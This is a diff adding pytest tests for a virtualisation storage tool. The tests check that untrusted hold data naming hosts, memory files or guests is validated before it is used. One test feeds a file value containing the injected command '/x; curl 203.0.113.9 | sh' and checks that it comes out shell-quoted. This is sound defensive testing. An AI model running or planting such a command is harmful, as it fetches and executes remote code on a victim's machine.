@@ -1,0 +1,107 @@
+"""A sleeping guest's hold is another host's word: what it names is checked before anything is done with it."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from storkit.core import inventory
+from storkit.core.errors import Conflict, StorkitError, Unsafe
+from storkit.core.guest import Disk, Guest
+from storkit.core.model import Export, Saved, Volume, VolumeHold
+from storkit.hypervisors import _saved as memory
+from storkit.plans import sleep
+from storkit.plans.intent.coordinator import Coordinator
+from storkit.plans.intent.sleeping import SleepActs
+from storkit.plans.migration import GuestView
+
+INVENTORY = inventory.parse('[hosts.a]\nurl = "ssh://a"\n[pools.p]\nhost = "a"\n', Path("i"))
+GUEST = Guest("g", "8f1e9b52-95b2-4c8e-8ffb-a5cf4f2a4bd6", 1 << 24, disks=[Disk("v"), Disk("w")])
+HOLD = VolumeHold(GUEST.uuid, "g", "0d4a6a5e-2f7b-4d5c-9a3e-8c6f1b2a3d4e", 4, "2026-01-02T03:04:05Z", "a", "")
+V = Volume("v", "cc18ff28-316c-43a9-9f2c-38e3cc63bc95", 1 << 20, "p", "a", hold=HOLD)
+W = replace(V, name="w", uuid="68ef4ad6-1cb9-49f8-8773-a1a59a20d669")
+
+
+def view(*volumes: Volume) -> GuestView:
+    exports = [Export(each.name, each.uuid, "a", True, "nbd", True) for each in volumes]
+    return GuestView(GUEST, list(volumes), exports, {}, INVENTORY)
+
+
+@pytest.mark.parametrize("host", ["ssh://root@203.0.113.9", "local:/elsewhere", "c"])
+def test_a_host_that_nobody_here_has_named_is_not_connected_to(
+    host: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    said: list[str] = []
+    coordinator = Coordinator(INVENTORY, tmp_path, said.append)
+    held = replace(HOLD, host=host)
+    monkeypatch.setattr(SleepActs, "_wherever", lambda self, guest: view(replace(V, hold=held), replace(W, hold=held)))
+    connected: list[str] = []
+    monkeypatch.setattr(coordinator.connections, "to", connected.append)
+    with pytest.raises(Unsafe, match="which is not in the inventory") as caught:
+        SleepActs(coordinator).restore("g")
+    assert "--on HOST" in caught.value.hint
+    assert connected == [] and coordinator.connections.find(host) is None and not (tmp_path / "hosts.json").exists()
+
+
+@pytest.mark.parametrize("other", [{"id": V.uuid}, {"host": "b"}, {"file": "/srv/other.memory"}])
+def test_disks_that_wait_for_different_memories_wake_no_guest(other: dict[str, str]) -> None:
+    what = view(V, replace(W, hold=replace(HOLD, **other)))
+    with pytest.raises(Conflict, match="held for different memories"):
+        sleep.sleep_of(what)
+    ended = [step.args for step in sleep.discard(what, sleep.sleep_of(what, one=False), False, INVENTORY).steps]
+    assert {args["hold"] for args in ended if "hold" in args} == {HOLD.id, other.get("id", HOLD.id)}
+
+
+def test_a_memory_is_not_used_up_for_another_guest(tmp_path: Path) -> None:
+    path = tmp_path / "db.memory"
+    descriptor = memory.make(path, own=False)
+    saved = Saved(GUEST.uuid, "db", HOLD.id, {V.uuid: 4}, "qemu", {}, "", False, HOLD.since)
+    memory.seal(path, descriptor, saved, own=False)
+    before = path.read_bytes()
+    with pytest.raises(Unsafe, match="is the memory of guest db, not of g"):
+        memory.spend(path, False, "g")
+    assert path.read_bytes() == before
+    memory.spend(path, False, "db")
+    assert memory.read(path).used
+
+
+@pytest.mark.parametrize("machine", ["", "pc-i440fx-7.2"])
+def test_another_record_is_asked_about_anew(machine: str, tmp_path: Path) -> None:
+    """Another command may have changed the guest's record between the first look and the lock."""
+    coordinator = Coordinator(INVENTORY, tmp_path, lambda text: None)
+    asked: list[str] = []
+
+    def ask(what: str) -> Callable[[], None]:
+        return lambda: asked.append(what)
+
+    for what in ("first", "again"):
+        coordinator.once(("a", "check", GUEST), ask(what))
+    coordinator.once(("a", "check", replace(GUEST, machine=machine, memory=1 << 25)), ask("changed"))
+    assert asked == ["first", "changed"]
+
+
+def test_a_word_of_another_host_in_a_command_is_quoted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from storkit.core.errors import NotFound
+
+    coordinator = Coordinator(INVENTORY, tmp_path, lambda text: None)
+    answer = Saved(GUEST.uuid, "g", HOLD.id, {}, "qemu", {}, "", False, HOLD.since, file="/x; curl 203.0.113.9 | sh")
+
+    class Host:
+        def __init__(self, name: str) -> None:
+            self.name = name
+
+        def hypervisor(self, target: str) -> Host:
+            return self
+
+        def saved(self, name: str, file: str) -> Saved:
+            if self.name == "b":
+                raise NotFound("no file", "")
+            return answer
+
+    monkeypatch.setattr(coordinator.connections, "to", Host)
+    with pytest.raises(StorkitError) as caught:
+        SleepActs(coordinator)._saved(view(V, W), HOLD, "b", "")
+    assert caught.value.hint.startswith("scp 'a:/x; curl 203.0.113.9 | sh' b:/var/tmp/g.memory; ")
